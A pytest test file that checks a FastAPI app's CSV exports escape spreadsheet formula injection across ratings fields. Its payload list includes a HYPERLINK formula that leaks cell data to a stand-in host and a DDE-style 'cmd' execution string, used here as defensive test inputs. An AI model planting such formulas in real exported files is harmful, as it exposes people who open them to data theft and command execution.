"""No CSV the app writes holds a spreadsheet formula: text cells starting with = + - @, a tab or a carriage
return get a leading single quote (OWASP's advice), on SQLite and Postgres."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from app.core.database import session_scope
from app.core.schemas import CSV_FORMULA_STARTS, csv_cell, csv_row
from app.core.tables import Rating, SAERow
from tests.app.test_api import make_client

PAYLOADS = [
    '=HYPERLINK("http://x/?leak="&A2,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module")
def client(shared_index: Any) -> Any:
    url, _, _, folder = shared_index
    with make_client(url, folder) as c:
        yield c


def test_csv_cell() -> None:
    for text in PAYLOADS:
        assert csv_cell(text) == "'" + text
    for harmless in ["", "fires on 'fox'", "a=b", " =1", "'=1", "x-1"]:
        assert csv_cell(harmless) == harmless
    for value in [-1, -2.5, None, True, 0]:
        assert csv_cell(value) == value  # numbers are numbers; only text can be a formula
    assert csv_row({"a": "=1", "b": 3}) == {"a": "'=1", "b": 3}
    assert set(CSV_FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_ratings_csv_neutralises_formulas(client: TestClient, shared_index: Any) -> None:
    url = "/api/v1/saes/tiny/features/{}/ratings"
    for n, payload in enumerate(PAYLOADS):
        body = {"rater": f"csv{n}", "label": "yes", "note": payload, "study_id": payload}
        assert client.post(url.format(20 + n), json=body).status_code == 201
    engine = shared_index[1]
    with session_scope(engine) as session:  # rater names from before the name rule (app.auth.names)
        sae_id = session.scalar(select(SAERow.id).where(SAERow.name == "tiny"))
        for n, payload in enumerate(PAYLOADS):
            session.add(Rating(sae_id=sae_id, feature_index=30 + n, rater=payload, label="no", note="", shown={}))
    reply = client.get("/api/v1/saes/tiny/ratings.csv")
    assert reply.status_code == 200 and reply.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(reply.text, newline="")))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(CSV_FORMULA_STARTS)]
    notes = {row["note"] for row in rows} | {row["study_id"] for row in rows} | {row["rater"] for row in rows}
    for payload in PAYLOADS:
        assert "'" + payload in notes, payload
    # and the JSON API still returns the text as written
    [rating] = client.get(url.format(20)).json()
    assert rating["note"] == PAYLOADS[0]
